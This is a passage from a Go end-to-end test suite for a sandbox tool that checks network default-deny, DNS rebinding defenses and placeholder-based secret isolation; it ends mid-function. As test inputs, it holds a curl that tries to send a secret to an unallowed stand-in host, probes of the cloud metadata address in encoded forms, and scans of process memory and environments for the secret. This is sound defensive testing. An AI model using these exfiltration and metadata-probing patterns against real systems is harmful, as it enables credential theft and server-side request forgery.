package e2e

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"io/fs"
	"math/big"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/airlock-sandbox/airlock/internal/testutil"
)

// Public-looking addresses that the shim's test dial map sends to
// 127.0.0.1 (AIRLOCK_TEST_DIAL_MAP): the policy decides on these, the
// connection lands on a listener of this machine. No packet leaves it.
const (
	pubA = "93.184.215.10"
	pubB = "93.184.215.11"
	pubC = "93.184.215.12"
)

// countingListener accepts TCP connections and records what each sent.
type countingListener struct {
	ln    net.Listener
	port  int
	mu    sync.Mutex
	conns int
	data  []byte
}

func listenCount(t *testing.T, addr string) *countingListener {
	t.Helper()
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	l := &countingListener{ln: ln, port: ln.Addr().(*net.TCPAddr).Port}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			l.mu.Lock()
			l.conns++
			l.mu.Unlock()
			go func() {
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(10 * time.Second))
				_, _ = c.Write([]byte("hello from the host\n"))
				b, _ := io.ReadAll(io.LimitReader(c, 1<<20))
				l.mu.Lock()
				l.data = append(l.data, b...)
				l.mu.Unlock()
			}()
		}
	}()
	return l
}

func (l *countingListener) stats() (int, []byte) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.conns, bytes.Clone(l.data)
}

// probeScript tries each "label host port" line from stdin and prints
// "label ok|fail <seconds> <error>".
const probeScript = `
import socket, sys, time
for line in sys.stdin.read().split("\n"):
    if not line.strip():
        continue
    label, host, port = line.split()
    t = time.time()
    try:
        infos = socket.getaddrinfo(host, int(port), type=socket.SOCK_STREAM)
        fam, typ, proto, _, addr = infos[0]
        s = socket.socket(fam, typ, proto)
        s.settimeout(5)
        s.connect(addr)
        s.recv(100)
        s.close()
        print(label, "ok", "%.3f" % (time.time() - t), flush=True)
    except Exception as ex:
        print(label, "fail", "%.3f" % (time.time() - t), type(ex).__name__, str(ex).replace(" ", "_"), flush=True)
`

type probe struct {
	ok      bool
	seconds float64
	detail  string
}

func runProbes(t *testing.T, e env, id string, lines []string) map[string]probe {
	t.Helper()
	r := e.run(t, strings.NewReader(strings.Join(lines, "\n")+"\n"), "exec", "-i", id, "--", "python3", "-c", probeScript)
	if r.code != 0 {
		t.Fatalf("probe script: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	out := map[string]probe{}
	for _, l := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
		f := strings.Fields(l)
		if len(f) < 3 {
			continue
		}
		s, _ := strconv.ParseFloat(f[2], 64)
		out[f[0]] = probe{ok: f[1] == "ok", seconds: s, detail: strings.Join(f[3:], " ")}
	}
	return out
}

// hostIPv4s are this machine's own IPv4 addresses other than loopback.
func hostIPv4s(t *testing.T) []string {
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, a := range addrs {
		if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() != nil && !ipn.IP.IsLoopback() {
			out = append(out, ipn.IP.String())
		}
	}
	return out
}

func TestThreat039DefaultDenyMatrix(t *testing.T) {
	e := setup(t)
	l := listenCount(t, "0.0.0.0:0") // every host address, loopback included
	meta := listenCount(t, "127.0.0.1:0")
	dns := testutil.StartDNS(t, map[string][]string{"meta.test": {"169.254.169.254"}, "loop.test": {"127.0.0.1"}})
	extra := []string{"AIRLOCK_TEST_DIAL_MAP=" + pubA + "=127.0.0.1", "AIRLOCK_DNS=" + dns.Addr}
	r := e.runWith(t, extra, nil, "create")
	if r.code != 0 {
		t.Fatalf("create: %s", r.stderr)
	}
	id := strings.TrimSpace(r.stdout)
	t.Cleanup(func() { e.run(t, nil, "rm", id) })

	p := strconv.Itoa(l.port)
	lines := []string{
		"control " + pubA + " " + p, // the stand-in public address: must work
		"loopback 127.0.0.1 " + p,
		"gateway 10.0.2.2 " + p,
		"ten 10.0.0.1 " + p,
		"rfc1918-172 172.16.0.1 " + p,
		"rfc1918-192 192.168.0.1 " + p,
		"cgnat 100.64.0.1 " + p,
		"metadata 169.254.169.254 " + strconv.Itoa(meta.port),
		"metadata80 169.254.169.254 80",
		"metadata-mapped ::ffff:169.254.169.254 80",
		"metadata-decimal 2852039166 80",
		"metadata-name meta.test 80",
		"loop-name loop.test " + p,
		"v6-loopback ::1 " + p,
		"v6-mapped-loopback ::ffff:127.0.0.1 " + p,
		"v6-mapped-gateway ::ffff:10.0.2.2 " + p,
		"zero 0.0.0.0 " + p,
	}
	for i, a := range hostIPv4s(t) {
		lines = append(lines, fmt.Sprintf("host%d %s %s", i, a, p), fmt.Sprintf("host%d-mapped ::ffff:%s %s", i, a, p))
	}
	res := runProbes(t, e, id, lines)
	for _, line := range lines {
		label := strings.Fields(line)[0]
		got, ok := res[label]
		switch {
		case !ok:
			t.Errorf("%s: no result", label)
		case label == "control":
			if !got.ok {
				t.Errorf("control connection to the stand-in public address failed: %s", got.detail)
			}
		case got.ok:
			t.Errorf("%s (%s): connected", label, line)
		case got.seconds > 1:
			t.Errorf("%s: refusal took %.2fs, want < 1s (%s)", label, got.seconds, got.detail)
		}
	}
	if n, _ := l.stats(); n != 1 {
		t.Errorf("the host listener saw %d connections, want exactly 1 (the control)", n)
	}
	if n, _ := meta.stats(); n != 0 {
		t.Errorf("the metadata stand-in saw %d connections", n)
	}
	evs := events(t, e, id)
	if !hasEvent(evs, "net.deny", "floor:metadata") || !hasEvent(evs, "net.allow", "mode:public") || !hasEvent(evs, "net.dns", "") {
		t.Errorf("audit trail lacks the expected net events:\n%s", dumpEvents(evs))
	}
}

func TestThreat048DNSRebindingAndPinning(t *testing.T) {
	e := setup(t)
	la := listenCount(t, "127.0.0.1:0")
	lb := listenCount(t, "127.0.0.1:0")
	lo := listenCount(t, "127.0.0.1:0")
	dns := testutil.StartDNS(t, map[string][]string{
		"a.test":      {pubA},
		"b.test":      {pubB},
		"rebind.test": {pubA, "127.0.0.1"},
	})
	extra := []string{"AIRLOCK_TEST_DIAL_MAP=" + pubA + "=127.0.0.1," + pubB + "=127.0.0.1", "AIRLOCK_DNS=" + dns.Addr}
	r := e.runWith(t, extra, nil, "create", "--net", "deny", "--allow", "a.test", "--allow", "rebind.test")
	if r.code != 0 {
		t.Fatalf("create: %s", r.stderr)
	}
	id := strings.TrimSpace(r.stdout)
	t.Cleanup(func() { e.run(t, nil, "rm", id) })

	// A raw connect to a.test's address before the sandbox resolved it.
	res := runProbes(t, e, id, []string{"raw-a " + pubA + " " + strconv.Itoa(la.port)})
	if res["raw-a"].ok {
		t.Fatal("a raw connect to a.test's address without resolving it succeeded")
	}
	res = runProbes(t, e, id, []string{
		"a a.test " + strconv.Itoa(la.port),
		"b b.test " + strconv.Itoa(lb.port),
		"raw-b " + pubB + " " + strconv.Itoa(lb.port),
		"rebind1 rebind.test " + strconv.Itoa(lo.port),
		"rebind2 rebind.test " + strconv.Itoa(lo.port),
	})
	if !res["a"].ok {
		t.Errorf("a.test: %s", res["a"].detail)
	}
	if res["b"].ok || !strings.Contains(res["b"].detail, "gaierror") {
		t.Errorf("b.test should not resolve: %+v", res["b"])
	}
	if res["raw-b"].ok {
		t.Error("raw connect to b.test's address succeeded")
	}
	if dns.Queries("b.test") != 0 {
		t.Errorf("b.test was forwarded upstream %d times", dns.Queries("b.test"))
	}
	// rebind.test answers public first (its connect reaches lo through the
	// dial map), then 127.0.0.1, which must become NXDOMAIN.
	if !res["rebind1"].ok {
		t.Errorf("rebind.test first answer (public): %s", res["rebind1"].detail)
	}
	if res["rebind2"].ok || !strings.Contains(res["rebind2"].detail, "gaierror") {
		t.Errorf("rebind.test second answer (127.0.0.1) should be NXDOMAIN: %+v", res["rebind2"])
	}
	if n, _ := la.stats(); n != 1 {
		t.Errorf("a.test's listener saw %d connections, want 1", n)
	}
	if n, _ := lb.stats(); n != 0 {
		t.Errorf("b.test's listener saw %d connections, want 0", n)
	}
	// The rebinding listener on loopback saw only the first, public answer's
	// connection (through the dial map); the 127.0.0.1 answer never got one.
	if n, _ := lo.stats(); n != 1 {
		t.Errorf("rebind listener saw %d connections, want 1", n)
	}

	// DNS to 8.8.8.8:53 is answered by the shim (a.test resolves from the
	// test resolver, which no real 8.8.8.8 would know).
	q := e.run(t, nil, "exec", id, "--", "python3", "-c", `
import socket, struct
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x01a\x04test\x00" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, ("8.8.8.8", 53)); r = s.recv(512)
print(".".join(str(b) for b in r[-4:]))`)
	if q.code != 0 || strings.TrimSpace(q.stdout) != pubA {
		t.Errorf("DNS via 8.8.8.8: exit %d %q %q", q.code, q.stdout, q.stderr)
	}
	evs := events(t, e, id)
	if !hasEvent(evs, "net.deny", "mode:deny") || !hasEvent(evs, "net.allow", "allow[0]") {
		t.Errorf("audit trail lacks deny/allow events:\n%s", dumpEvents(evs))
	}
}

func TestThreat015NetworkOffIsOff(t *testing.T) {
	e := setup(t)
	l := listenCount(t, "0.0.0.0:0")
	id := e.create(t, "--net", "none")
	res := runProbes(t, e, id, []string{"gw 10.0.2.2 " + strconv.Itoa(l.port), "pub " + pubA + " 80"})
	for k, v := range res {
		if v.ok || v.seconds > 1 {
			t.Errorf("%s: %+v, want a prompt failure", k, v)
		}
	}
	if n, _ := l.stats(); n != 0 {
		t.Errorf("listener saw %d connections", n)
	}
}

// testCA makes a CA and a server certificate for names.
func testCA(t *testing.T, names ...string) (caPEM []byte, cert tls.Certificate) {
	t.Helper()
	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	caTmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "e2e test CA"}, NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	caDER, err := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	ca, _ := x509.ParseCertificate(caDER)
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: names[0]}, DNSNames: names, NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(time.Hour), ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, KeyUsage: x509.KeyUsageDigitalSignature}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, ca, &key.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER}), tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

func TestThreat069GuestOnlyHoldsPlaceholder(t *testing.T) {
	e := setup(t)
	// A value of this run's own: rows an earlier run left in the state
	// dir's catalog cannot be mistaken for a leak of this one.
	value := "sk-e2e-REAL-" + rand.Text()
	caPEM, cert := testCA(t, "api.test")
	caFile := filepath.Join(t.TempDir(), "upstream-ca.pem")
	if err := os.WriteFile(caFile, caPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var seen []string
	ln, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{cert}})
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Header.Get("Authorization"))
		mu.Unlock()
		// Reflect the credential: the guest must get the placeholder back.
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		fmt.Fprintf(w, "echo:%s\n", r.Header.Get("Authorization"))
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { srv.Close() })
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	other := listenCount(t, "127.0.0.1:0")

	dns := testutil.StartDNS(t, map[string][]string{"api.test": {pubC}, "other.test": {pubB}})
	extra := []string{
		"AIRLOCK_TEST_DIAL_MAP=" + pubC + "=127.0.0.1," + pubB + "=127.0.0.1",
		"AIRLOCK_DNS=" + dns.Addr,
		"AIRLOCK_UPSTREAM_CA_FILE=" + caFile,
		"API_KEY=" + value,
	}
	r := e.runWith(t, extra, nil, "create", "--secret", "API_KEY@api.test")
	if r.code != 0 {
		t.Fatalf("create: %s", r.stderr)
	}
	id := strings.TrimSpace(r.stdout)
	t.Cleanup(func() { e.run(t, nil, "rm", id) })

	ph := strings.TrimSpace(e.must(t, "exec", id, "--", "sh", "-c", "printf %s \"$API_KEY\""))
	if !strings.HasPrefix(ph, "airlock-secret-") || strings.Contains(ph, value) {
		t.Fatalf("guest env API_KEY = %q, want a placeholder", ph)
	}
	out := e.run(t, nil, "exec", id, "--", "sh", "-c", `curl -sS -D - https://api.test:`+port+`/v1/models -H "Authorization: Bearer $API_KEY"`)
	if out.code != 0 {
		t.Fatalf("curl through the interceptor: exit %d\n%s\n%s", out.code, out.stdout, out.stderr)
	}
	mu.Lock()
	got := append([]string(nil), seen...)
	mu.Unlock()
	if len(got) != 1 || got[0] != "Bearer "+value {
		t.Fatalf("upstream saw Authorization %q, want the real value\ncurl: %s %s", got, out.stdout, out.stderr)
	}
	if strings.Contains(out.stdout, value) || !strings.Contains(out.stdout, "echo:Bearer "+ph) {
		t.Fatalf("the guest saw the reflected value or not the placeholder:\n%s", out.stdout)
	}

	// The placeholder sent to another host (plain HTTP) is blocked.
	bad := e.run(t, nil, "exec", id, "--", "sh", "-c", `curl -sS -m 5 http://other.test:`+strconv.Itoa(other.port)+`/ -H "X-Key: $API_KEY"`)
	if bad.code == 0 {
		t.Errorf("placeholder to another host: curl succeeded:\n%s", bad.stdout)
	}
	time.Sleep(200 * time.Millisecond)
	if _, data := other.stats(); bytes.Contains(data, []byte(ph)) {
		t.Errorf("the other host received the placeholder: %q", data)
	}

	// The shim got the value over a pipe (its configuration document), not
	// in its environment or argv; the environment knobs (the dial map
	// this test relies on) came in the same document.
	shim := shimPID(t, e, id)
	env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", shim))
	if err != nil || bytes.Contains(env, []byte(value)) {
		t.Errorf("shim environment holds the secret value (or is unreadable: %v)", err)
	}
	if bytes.Contains(env, []byte("AIRLOCK_TEST_DIAL_MAP=")) || bytes.Contains(env, []byte("AIRLOCK_DNS=")) {
		t.Error("shim environment holds the environment knobs; they belong in its configuration document")
	}
	if argv, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", shim)); err != nil || bytes.Contains(argv, []byte(value)) || !bytes.Contains(argv, []byte("shim\x00--id\x00"+id)) {
		t.Errorf("shim argv %q: want `shim --id %s` and no secret value (%v)", argv, id, err)
	}

	// The value is nowhere in the VMM's memory, a superset of the guest's
	// RAM (process environments, page cache). Checked first: the file scan
	// below has to hand the value to the guest.
	vmm := vmmPID(t, id)
	if found := processMemoryContains(t, vmm, []byte(value)); found {
		t.Error("the secret value is in the VMM's memory")
	}
	if found := processMemoryContains(t, vmm, []byte(ph)); !found {
		t.Error("control: the placeholder (in the guest's env) was not found in the VMM's memory, so the scan proves nothing")
	}

	// Across a pause, a resume and forks (before the scan below hands the
	// value to this guest). Across a pause: the saved state holds no
	// value, and the resumed sandbox injects again (the values were kept
	// sealed on the host).
	call := func(sb string) result {
		t.Helper()
		return e.runWith(t, extra, nil, "exec", sb, "--", "sh", "-c", `curl -sS -m 20 https://api.test:`+port+`/v1/models -H "Authorization: Bearer $API_KEY"`)
	}
	seenNow := func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), seen...)
	}
	if r := e.runWith(t, extra, nil, "pause", id); r.code != 0 {
		t.Fatalf("pause of a sandbox with a secret: %s", r.stderr)
	}
	if p := fileContaining(t, e.state, []byte(value)); p != "" {
		t.Errorf("after the pause, state dir file %s contains the secret value", p)
	}
	if out := call(id); out.code != 0 || len(seenNow()) != 2 || seenNow()[1] != "Bearer "+value {
		t.Fatalf("after the resume: curl exit %d %s; upstream saw %q", out.code, out.stderr, seenNow())
	}
	// A fork binds the source's values only when asked.
	r = e.runWith(t, extra, nil, "fork", "--secrets", id)
	if r.code != 0 {
		t.Fatalf("fork --secrets: %s", r.stderr)
	}
	withSecrets := strings.TrimSpace(r.stdout)
	t.Cleanup(func() { e.run(t, nil, "rm", withSecrets) })
	if out := call(withSecrets); out.code != 0 || len(seenNow()) != 3 || seenNow()[2] != "Bearer "+value {
		t.Fatalf("in a fork with --secrets: curl exit %d %s; upstream saw %q", out.code, out.stderr, seenNow())
	}
	r = e.runWith(t, extra, nil, "fork", id)
	if r.code != 0 {
		t.Fatalf("fork: %s", r.stderr)
	}
	without := strings.TrimSpace(r.stdout)
	t.Cleanup(func() { e.run(t, nil, "rm", without) })
	_ = call(without) // refused, or sent with the placeholder: never the value
	for _, h := range seenNow()[3:] {
		if strings.Contains(h, value) {
			t.Fatalf("a fork without --secrets sent the value: upstream saw %q", h)
		}
	}
	// Snapshots (the forks' bases) and every sandbox's files hold no value.
	if p := fileContaining(t, e.state, []byte(value)); p != "" {
		t.Errorf("after the forks, state dir file %s contains the secret value", p)
	}

	// Nor in the guest's files or process environments.
	// The value goes in on stdin and to grep in a pattern file, never on
	// a command line: execs, and every program the guest runs (process
	// audit), are audited with their argv, and the audit trail is checked
	// below. printf is the shell's own (no exec); /dev/shm is not scanned.
	scan := e.run(t, strings.NewReader(value), "exec", "-i", id, "--", "sh", "-c",
		`v=$(cat); printf %s "$v" > /dev/shm/.needle; cat /proc/[0-9]*/environ 2>/dev/null | grep -c -F -f /dev/shm/.needle; grep -r -l -F -f /dev/shm/.needle /etc /root /home /tmp /var /usr/local /run /opt 2>/dev/null | head -5; rm -f /dev/shm/.needle; echo done`)
	if lines := strings.Fields(scan.stdout); len(lines) != 2 || lines[0] != "0" || lines[1] != "done" {
		t.Errorf("guest scan for the value: %q %q", scan.stdout, scan.stderr)
	}
	evs := events(t, e, id)
	b, _ := json.Marshal(evs)
	if bytes.Contains(b, []byte(value)) {
		t.Error("the audit trail holds the secret value")
	}
	if !hasEvent(evs, "net.secret.inject", "") || !hasEvent(evs, "net.secret.block", "") {
		t.Errorf("audit trail lacks inject/block events:\n%s", dumpEvents(evs))
	}
	// The state dir (catalog, logs, sandbox files) never holds it.
	if p := fileContaining(t, e.state, []byte(value)); p != "" {
		t.Errorf("state dir file %s contains the secret value", p)
	}
}

// vmmPID finds the process holding sandbox id's guest memory: its qemu,
// or under gvisor its runsc-sandbox (the sentry).
func vmmPID(t *testing.T, id string) int {
	t.Helper()
	for _, pid := range processesMentioning(id) {
		b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if strings.Contains(string(b), "-M\x00microvm") || strings.HasPrefix(string(b), "runsc-sandbox\x00") {
			return pid
		}
	}
	t.Fatalf("no VMM process for %s", id)
	return 0
}

// processMemoryContains scans every readable mapping of pid, or, for a
// gVisor sentry (reading its mappings through /proc kills it), the memory
// file that holds all of its guest's memory.
func processMemoryContains(t *testing.T, pid int, needle []byte) bool {
	t.Helper()
	if cmd, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid)); strings.HasPrefix(string(cmd), "runsc-sandbox\x00") {
		fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
		scanned := false
		for _, fd := range fds {
			p := fmt.Sprintf("/proc/%d/fd/%s", pid, fd.Name())
			if link, _ := os.Readlink(p); strings.HasPrefix(link, "/memfd:runsc-memory") {
				scanned = true
				if fileHas(t, p, needle) {
					return true
				}
			}
		}
		if !scanned {
			t.Fatalf("no runsc memory file in process %d", pid)
		}
		return false
	}
	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		t.Fatal(err)
	}
	defer maps.Close()
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		t.Fatal(err)
	}
	defer mem.Close()
	buf := make([]byte, 4<<20)
	sc := bufio.NewScanner(maps)
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 2 || f[1][0] != 'r' {
			continue
		}
		lo, hi, _ := strings.Cut(f[0], "-")
		start, _ := strconv.ParseUint(lo, 16, 64)
		end, _ := strconv.ParseUint(hi, 16, 64)
		var carry []byte
		for off := start; off < end; off += uint64(len(buf)) {
			n := min(uint64(len(buf)), end-off)
			m, err := mem.ReadAt(buf[:n], int64(off))
			if err != nil && m == 0 {
				break
			}
			chunk := append(carry, buf[:m]...)
			if bytes.Contains(chunk, needle) {
				return true
			}
			carry = append([]byte(nil), chunk[max(0, len(chunk)-len(needle)):]...)
		}
	}
	return false
}

// fileHas reports whether the file at p contains needle.
func fileHas(t *testing.T, p string, needle []byte) bool {
	t.Helper()
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	buf := make([]byte, 4<<20)
	var carry []byte
	for {
		n, err := f.Read(buf)
		chunk := append(carry, buf[:n]...)
		if bytes.Contains(chunk, needle) {
			return true
		}
		carry = append([]byte(nil), chunk[max(0, len(chunk)-len(needle)):]...)
		if err != nil {
			return false
		}
	}
}

// fileContaining returns a file under root (images excluded: written before
// any secret existed) that contains needle.
func fileContaining(t *testing.T, root string, needle []byte) string {
	t.Helper()
	var hit string
	_ = filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || hit != "" {
			return nil
		}
		if d.IsDir() && p == filepath.Join(root, "images") {
			return filepath.SkipDir
		}
		if !d.Type().IsRegular() {
			return nil
		}
		f, err := os.Open(p)
		if err != nil {
			return nil
		}
		defer f.Close()
		br := bufio.NewReaderSize(f, 1<<20)
		var carry []byte
		buf := make([]byte, 1<<20)
		for {
			n, err := br.Read(buf)
			chunk := append(carry, buf[:n]...)
			if bytes.Contains(chunk, needle) {
				hit = p
				return nil
			}
			carry = append([]byte(nil), chunk[max(0, len(chunk)-len(needle)):]...)
			if err != nil {
				return nil
			}
		}
	})
	return hit
}

type event struct {
	Action string         `json:"action"`
	Detail map[string]any `json:"detail"`
}

func events(t *testing.T, e env, id string) []event {
	t.Helper()
	out := e.must(t, "events", "--sandbox", id, "--limit", "10000")
	var evs []event
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		var ev event
		if json.Unmarshal([]byte(l), &ev) == nil {
			evs = append(evs, ev)
		}
	}
	return evs
}

func hasEvent(evs []event, action, rule string) bool {
	for _, ev := range evs {
		if ev.Action == action && (rule == "" || ev.Detail["rule"] == rule) {
			return true
		}
	}
	return false
}

func dumpEvents(evs []event) string {
	var sb strings.Builder
	for _, ev := range evs {
		b, _ := json.Marshal(ev)
		sb.Write(b)
		sb.WriteByte('\n')
	}
	return sb.String()
}

// publishedPort is one of a sandbox's published ports as inspect shows it.
type publishedPort struct {
	HostIP    string `json:"host_ip"`
	HostPort  int    `json:"host_port"`
	GuestPort int    `json:"guest_port"`
}

// publishedPorts are sandbox id's published ports (airlock inspect).
func publishedPorts(t *testing.T, e env, id string) []publishedPort {
	t.Helper()
	var info struct {
		Network struct {
			Ports []publishedPort `json:"ports"`
		} `json:"network"`
	}
	if err := json.Unmarshal([]byte(e.must(t, "inspect", id)), &info); err != nil {
		t.Fatal(err)
	}
	return info.Network.Ports
}

func TestThreat068IngressClosedUnlessPublished(t *testing.T) {
	e := setup(t)
	id := e.create(t, "-p", "127.0.0.1:0:8000")
	e.must(t, "exec", id, "--", "sh", "-c", `cd /etc && setsid python3 -m http.server 8000 >/dev/null 2>&1 </dev/null &
for i in $(seq 50); do python3 -c 'import socket;socket.create_connection(("127.0.0.1",8000))' 2>/dev/null && exit 0; sleep 0.1; done; exit 1`)
	ports := publishedPorts(t, e, id)
	if len(ports) != 1 || ports[0].HostPort == 0 || ports[0].HostIP != "127.0.0.1" {
		t.Fatalf("inspect ports: %+v (want the host port the shim chose)", ports)
	}
	url := fmt.Sprintf("http://127.0.0.1:%d/hostname", ports[0].HostPort)
	res, err := (&http.Client{Timeout: 30 * time.Second}).Get(url)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != 200 || string(b) != "airlock\n" {
		t.Fatalf("GET %s: %d %q", url, res.StatusCode, b)
	}
}

// TestThreat078ReflectionByAllowedHost: an allowed host that echoes every request back
// (headers, query, path, body; gzip-compressed when asked, or even when
// not) returns nothing from which the guest can read the value: not raw,
// not URL-escaped, not inside the echoed Basic credential, not compressed.
func TestThreat078ReflectionByAllowedHost(t *testing.T) {
	e := setup(t)
	const value = "sk+e2e/REAL=9f8e+7d6c/5b4a==39281706"
	caPEM, cert := testCA(t, "api.test")
	caFile := filepath.Join(t.TempDir(), "upstream-ca.pem")
	if err := os.WriteFile(caFile, caPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var seen []string
	ln, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{cert}})
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		var dump bytes.Buffer
		fmt.Fprintf(&dump, "%s %s\n", r.Method, r.RequestURI)
		_ = r.Header.Write(&dump)
		fmt.Fprintf(&dump, "path=%s query=%v\n%s", r.URL.Path, r.URL.Query(), body)
		mu.Lock()
		seen = append(seen, dump.String())
		mu.Unlock()
		js, _ := json.Marshal(map[string]any{"headers": r.Header, "path": r.URL.Path, "query": r.URL.Query()})
		dump.Write(js)
		w.Header().Set("X-Echo-Auth", r.Header.Get("Authorization"))
		w.Header().Set("X-Echo-Query", r.URL.RawQuery)
		if strings.Contains(r.Header.Get("Accept-Encoding"), "gzip") || r.Header.Get("X-Force-Gzip") != "" {
			w.Header().Set("Content-Encoding", "gzip")
			zw := gzip.NewWriter(w)
			_, _ = zw.Write(dump.Bytes())
			_ = zw.Close()
			return
		}
		_, _ = w.Write(dump.Bytes())
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { srv.Close() })
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)

	dns := testutil.StartDNS(t, map[string][]string{"api.test": {pubC}})
	extra := []string{
		"AIRLOCK_TEST_DIAL_MAP=" + pubC + "=127.0.0.1",
		"AIRLOCK_DNS=" + dns.Addr,
		"AIRLOCK_UPSTREAM_CA_FILE=" + caFile,
		"API_KEY=" + value,
	}
	r := e.runWith(t, extra, nil, "create", "--secret", "API_KEY@api.test")
	if r.code != 0 {
		t.Fatalf("create: %s", r.stderr)
	}
	id := strings.TrimSpace(r.stdout)
	t.Cleanup(func() { e.run(t, nil, "rm", id) })

	base := "https://api.test:" + port
	cmds := []string{
		`curl -sS -D - ` + base + `/h -H "Authorization: Bearer $API_KEY" -H "X-Key: k=$API_KEY;"`,
		`curl -sS -D - -u "user:$API_KEY" ` + base + `/basic`,
		`curl -sS -D - -u "us:$API_KEY" ` + base + `/basic2`,
		`curl -sS -D - "` + base + `/q?key=$API_KEY&x=a${API_KEY}b"`,
		`curl -sS -D - "` + base + `/p/$API_KEY/x"`,
		`curl -sS -D - --compressed -H "Authorization: Bearer $API_KEY" "` + base + `/gz?key=$API_KEY"`,
		`curl -sS -D - -H "X-Force-Gzip: 1" -u "user:$API_KEY" "` + base + `/forced/$API_KEY?key=$API_KEY"`,
		`curl -sS -D - -H "Accept-Encoding: gzip" -H "Authorization: Bearer $API_KEY" ` + base + `/raw-gzip-asked`,
	}
	var guestSaw bytes.Buffer
	for _, c := range cmds {
		out := e.run(t, nil, "exec", id, "--", "sh", "-c", c)
		if out.code != 0 || !strings.Contains(out.stdout, "200") {
			t.Fatalf("%s: exit %d\n%s\n%s", c, out.code, out.stdout, out.stderr)
		}
		guestSaw.WriteString(out.stdout)
		if strings.Contains(strings.ToLower(out.stdout), "content-encoding") {
			t.Errorf("%s: the guest got an encoded response:\n%s", c, out.stdout)
		}
	}
	// The subject ran: the upstream received the value in each form.
	mu.Lock()
	all := strings.Join(seen, "\n")
	n := len(seen)
	mu.Unlock()
	for _, form := range []string{"Bearer " + value, url.QueryEscape(value), url.PathEscape(value),
		base64.StdEncoding.EncodeToString([]byte("user:" + value)), "Accept-Encoding: identity"} {
		if !strings.Contains(all, form) {
			t.Errorf("the upstream never received %q", form)
		}
	}
	if n != len(cmds) || strings.Contains(all, "Accept-Encoding: gzip") {
		t.Errorf("upstream saw %d requests:\n%s", n, all)
	}
	// What the guest read, decoded every way it could try.
	got := guestSaw.Bytes()
	views := [][]byte{got, []byte(strings.ReplaceAll(string(got), `\/`, "/"))}
	views = append(views, regexp.MustCompile(`%[0-9A-Fa-f]{2}`).ReplaceAllFunc(got, func(b []byte) []byte {
		d, _ := url.PathUnescape(string(b))
		return []byte(d)
	}))
	for _, run := range regexp.MustCompile(`[A-Za-z0-9+/_-]{8,}`).FindAll(got, -1) {
		s := strings.NewReplacer("-", "+", "_", "/").Replace(string(run))
		for off := range 4 {
			if off < len(s) {
				d, _ := base64.RawStdEncoding.DecodeString(s[off : off+(len(s)-off)/4*4])
				views = append(views, d)
			}
		}
	}
	for _, v := range views {
